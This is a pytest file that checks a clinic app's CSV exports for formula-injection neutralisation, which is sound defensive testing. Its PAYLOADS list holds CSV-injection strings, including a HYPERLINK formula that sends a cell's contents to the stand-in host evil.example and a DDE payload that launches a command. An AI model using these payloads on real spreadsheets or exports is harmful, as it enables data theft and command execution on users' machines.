"""Every CSV the app and the CLI write, from a clinic whose every text field
starts like a spreadsheet formula: no cell a spreadsheet would run."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from db import audit, cli
from db.engine import session_factory
from db.exports.compliance_csv import audit_csv, exceptions_csv, series_csv
from db.models import Habit, Patient, Staff, TreatmentSeries
from db.protocol import compute_compliance
from db.queries import compliance as cq
from db.queries.audit_log import AuditFilter
from db.queries.periods import Period
from db.reports import KINDS, run
from tests.reliability.support import AS_OF, clinic_engine  # noqa: F401

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def assert_no_formula(text: str, what: str) -> int:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, f"{what}: empty"
    hostile_seen = 0
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or _is_number(value), f"{what}: {value!r}"
            hostile_seen += any(p.strip() in value for p in PAYLOADS)
    return hostile_seen


@pytest.fixture(scope="module")
def hostile(clinic_engine):
    """Chart numbers, habit names, therapist usernames shown, reasons and audit
    details that all start like formulas."""
    factory = session_factory(clinic_engine)
    with factory() as s:
        patients = s.scalars(select(Patient).order_by(Patient.id)).all()
        for i, p in enumerate(patients):
            p.patient_id = f"{PAYLOADS[i % len(PAYLOADS)]}#{i}"
        for i, h in enumerate(s.scalars(select(Habit).order_by(Habit.id)).all()):
            h.name = f"{PAYLOADS[i % len(PAYLOADS)]}~{i}"
        s.execute(update(TreatmentSeries).where(TreatmentSeries.status == "discontinued")
                  .values(discontinued_reason=PAYLOADS[0]))
        for st in s.scalars(select(Staff).where(Staff.role == "therapist")).all():
            st.full_name = "=" + st.full_name
        audit.record(s, "therapist", "export.csv", PAYLOADS[0], what=PAYLOADS[1], detail=PAYLOADS[3])
        s.commit()
    return factory


def test_cli_reports_neutralise(hostile, clinic_engine, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", clinic_engine.url.render_as_string(hide_password=False))
    for kind in KINDS:
        assert cli.main(["report", kind, "--as-of", AS_OF.isoformat()]) == 0
        text = capsys.readouterr().out
        assert assert_no_formula(text, f"report {kind}") > 0, f"report {kind} shows no hostile text"


def test_app_downloads_neutralise(hostile):
    with hostile() as s:
        rows = compute_compliance(s, AS_OF)
        period = Period(AS_OF - timedelta(days=90), AS_OF, "quarter")
        exceptions = cq.exceptions(rows, period, AS_OF)
        assert exceptions, "the demo clinic has exceptions to export"
        assert assert_no_formula(exceptions_csv(exceptions), "exceptions") > 0
        assert assert_no_formula(series_csv(s, AS_OF), "series") > 0
        assert assert_no_formula(audit_csv(s, AuditFilter()), "audit log") > 0
        out = io.StringIO()
        run(s, "adherence", as_of=AS_OF, out=out)
        assert assert_no_formula(out.getvalue(), "adherence") > 0


def test_numbers_stay_numbers(hostile):
    """Neutralising must not turn a negative change into text."""
    with hostile() as s:
        out = io.StringIO()
        run(s, "outcomes", as_of=AS_OF, out=out)
    changes = [r["change"] for r in csv.DictReader(io.StringIO(out.getvalue())) if r["change"]]
    assert any(c.startswith("-") for c in changes) and all(_is_number(c) for c in changes)


def test_a_carriage_return_cannot_start_a_new_row():
    """A spreadsheet breaks a row at a bare CR: the formula after it would run."""
    from db.csv_safety import write_csv

    out = io.StringIO()
    write_csv([{"note": "fine\r=1+1", "n": 1}, {"note": ["a", "b\r@x"], "n": -2}], out)
    text = out.getvalue()
    assert "\r" not in text
    assert list(csv.reader(io.StringIO(text))) == [["note", "n"], ["fine\n=1+1", "1"], ["a;b\n@x", "-2"]]
